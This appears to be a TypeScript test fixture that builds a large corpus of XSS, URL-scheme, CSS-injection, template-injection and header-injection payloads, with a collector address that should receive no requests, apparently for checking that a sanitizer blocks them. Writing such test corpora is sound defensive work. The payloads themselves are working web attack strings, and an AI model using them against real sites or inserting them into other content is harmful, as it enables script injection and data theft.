/**
 * Pieces of HTML that would run, load or lead away where they are taken for more than text. `hit` is called by what runs, with the number of its payload;
 * `collector` is an address that must hear nothing.
 */
const VECTORS: readonly ((hit: string, collector: string) => string)[] = [
  (hit) => `<script>${hit}</script>`,
  (hit, at) => `<script src="${at}/script.js" onerror="${hit}"></script>`,
  (hit) => `<img src=x onerror="${hit}">`,
  (_, at) => `<img src="${at}/picture" srcset="${at}/set 2x" longdesc="${at}/long">`,
  (_, at) => `<picture><source srcset="${at}/source"><img alt=""></picture>`,
  (hit) => `<svg onload="${hit}"></svg>`,
  (hit) => `<svg><script>${hit}</script></svg>`,
  (hit) => `<svg><animate onbegin="${hit}" attributeName=x dur=1s></svg>`,
  (hit) => `<svg><set attributeName="href" to="javascript:${hit}" /><a id=x><text y=9>x</text></a></svg>`,
  (_, at) => `<svg><image href="${at}/svgimage" /><use href="${at}/use#x" /><feImage href="${at}/fe" /></svg>`,
  (hit) => `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${hit}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  (hit) => `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`,
  (hit) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  (hit) =>
    `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${hit} src=1>"></textarea></mtext></svg></mglyph></mi></math>`,
  (hit) => `<math href="javascript:${hit}">x</math><maction actiontype="statusline#x" xlink:href="javascript:${hit}">y</maction>`,
  (hit) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  (hit) => `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  (hit) => `<template><img src=x onerror=${hit}></template><template shadowrootmode=open><img src=x onerror=${hit}></template>`,
  (hit) => `<textarea></textarea><img src=x onerror=${hit}></textarea>`,
  (hit) => `<title></title><img src=x onerror=${hit}></title><xmp><p title="</xmp><img src=x onerror=${hit}>"></xmp>`,
  (hit) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${hit}>">`,
  (hit) => `<a href="javascript:${hit}">a</a>`,
  (hit) => `<a href=" java\tscr\nipt:${hit}">b</a>`,
  (hit) => `<a href="&#106;avascript&colon;${hit}">c</a>`,
  (hit) => `<a href="JaVaScRiPt:${hit}//https://www.example.org">d</a>`,
  (hit) => `<a href="data:text/html;base64,${btoa(`<script>opener.${hit}</script>`)}">e</a>`,
  (hit) => `<a href="vbscript:${hit}">f</a><a href="blob:https://example.org/x">g</a><a href="filesystem:x">h</a><a href="intent:x">i</a>`,
  (_, at) => `<a href="//${at.replace(/^https?:\/\//, '')}/slashes" ping="${at}/ping">j</a>`,
  (_, at) => `<a href="https://www.example.org@${at.replace(/^https?:\/\//, '')}/userinfo">www.example.org</a>`,
  (_, at) => `<a href="${at}/opener" target="portal" rel="opener">k</a>`,
  () => '<a href="https://аррӏе.example">apple.example</a><a href="https://example.org\u202emoc.live">x</a>',
  (hit) => `<form action="javascript:${hit}"><button>l</button><input type=image src=x onerror="${hit}"></form>`,
  (_, at) => `<form action="${at}/form"><input name=password autofocus><button formaction="${at}/button">m</button></form>`,
  (hit) => `<input onfocus="${hit}" autofocus><details open ontoggle="${hit}">n</details><video onloadstart="${hit}"><source></video>`,
  (hit) => `<iframe src="javascript:${hit}"></iframe><iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  (hit, at) => `<object data="javascript:${hit}"></object><embed src="${at}/embed"><applet code="${at}/applet"></applet>`,
  (_, at) => `<link rel=stylesheet href="${at}/style"><link rel=prefetch href="${at}/prefetch"><link rel=dns-prefetch href="${at}">`,
  (_, at) => `<base href="${at}/"><meta http-equiv=refresh content="0;url=${at}/meta">`,
  (_, at) => `<style>@import "${at}/import"; body { background: url(${at}/background) }</style>`,
  (_, at) => `<b style="background:url(${at}/css);position:fixed;inset:0;z-index:9999;font:1px/1 x">o</b>`,
  (_, at) =>
    `<audio src="${at}/audio" autoplay></audio><video src="${at}/video" poster="${at}/poster" autoplay></video><track src="${at}/track">`,
  (_, at) => `<table background="${at}/table"><td background="${at}/cell">p</td></table><body background="${at}/body">`,
  (hit) =>
    `<b id=location name=cookie>q</b><form id=documentElement><input name=attributes></form><img name=getElementById onerror=${hit} src=x>`,
  (hit) => `<p onclick="${hit}" onmouseover="${hit}" onanimationstart="${hit}" style="animation:x 1s">r</p>`,
  (hit) => `<![CDATA[<img src=x onerror=${hit}>]]><?xml-stylesheet href="javascript:${hit}"?><!--><img src=x onerror=${hit}>-->`,
  (hit) => `{{constructor.constructor("${hit}")()}} \${${hit}} <%= ${hit} %> #{${hit}}`,
  (hit) => `\u202e\u2066</b>\u0000<img src=x onerror=${hit}>\u2069`,
  (hit) => `<img src=x onerror=${hit}//`,
  (hit) => `<svg/onload=${hit}`,
  (hit) => `"><img src=x onerror=${hit}>`,
  (hit) => `<p title=">" onclick="${hit}"><b title='<' onclick='${hit}'>s</b></p>`,
  (hit) => `<p title=x" onclick=${hit}>t</p><p title="x onclick=${hit}>`,
]

/** How a vector is disguised. */
const DISGUISES: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p><b>${html}</b></p>`,
  (html) => `<table><tr><td>${html}`,
  (html) => html.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (html) => html.replace(/<([a-zA-Z]+) /g, '<$1/\n\t'),
  (html) => `<blockquote><ul><li><a href="https://www.example.org">${html}</a></li></ul></blockquote>`,
  (html) => `${'<div>'.repeat(200)}${html}`,
]

/** All payloads, over three hundred: each calls `window.hit` with its own number where it runs. */
export const htmlPayloads = (collector: string): readonly string[] => [
  ...new Set(
    VECTORS.flatMap((vector, place) =>
      DISGUISES.map((disguise, kind) => disguise(vector(`window.hit(${1000 + place * DISGUISES.length + kind})`, collector))),
    ),
  ),
]

/** Where an address is expected: other schemes, other hosts, homographs, and disguises of all of them. */
const ADDRESSES: readonly ((hit: string, collector: string) => string)[] = [
  (hit) => `javascript:${hit}`,
  (hit) => ` \u0001jAvA\tscr\nipt:${hit}//https://www.example.org`,
  (hit) => `javascript://www.example.org/%0a${hit}`,
  (hit) => `data:text/html;base64,${btoa(`<script>opener.${hit};parent.${hit}</script>`)}`,
  (hit) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"/>`,
  (hit) => `vbscript:${hit}`,
  () => 'blob:https://www.example.org/1',
  () => 'filesystem:https://www.example.org/temporary/x',
  () => 'intent://x#Intent;scheme=https;end',
  () => 'file:///etc/passwd',
  (_, at) => `//${at.replace(/^https?:\/\//, '')}/slashes`,
  (_, at) => `\\\\${at.replace(/^https?:\/\//, '')}\\backslashes`,
  (_, at) => `https://www.example.org@${at.replace(/^https?:\/\//, '')}/userinfo`,
  () => 'https://аррӏе.example/',
  () => 'https://example.org\u202emoc.live/',
]

/** What is no HTML, yet breaks where it is taken for more than text. */
const OTHERS: readonly ((hit: string, collector: string) => string)[] = [
  (_, at) => `${at}/address`,
  (hit) => `{{constructor.constructor("${hit}")()}} $` + `{${hit}} {x, plural, other {#}} {`,
  (hit) => `=${hit}`,
  (hit) => `"><script>${hit}</script>`,
  (_, at) => `url(${at}/css)`,
  (_, at) => `x;background:url(${at}/declaration)}*{background:url(${at}/rule)`,
  () => '../../../__proto__/..%2f',
  () => '__proto__',
  () => '\u202eکد\u2066\u0000\ufffe\ud800',
  () => 'x\r\nSet-Cookie: hostile=1\r\n',
  () => 'NaN',
  () => '',
]

/** The payloads of HTML, and what is hostile where an address, a style or a word is expected: for any field that a server fills. */
export const hostileTexts = (collector: string): readonly string[] => [
  ...htmlPayloads(collector),
  ...[...ADDRESSES, ...OTHERS].map((vector, place) => vector(`window.hit(${2000 + place})`, collector)),
]
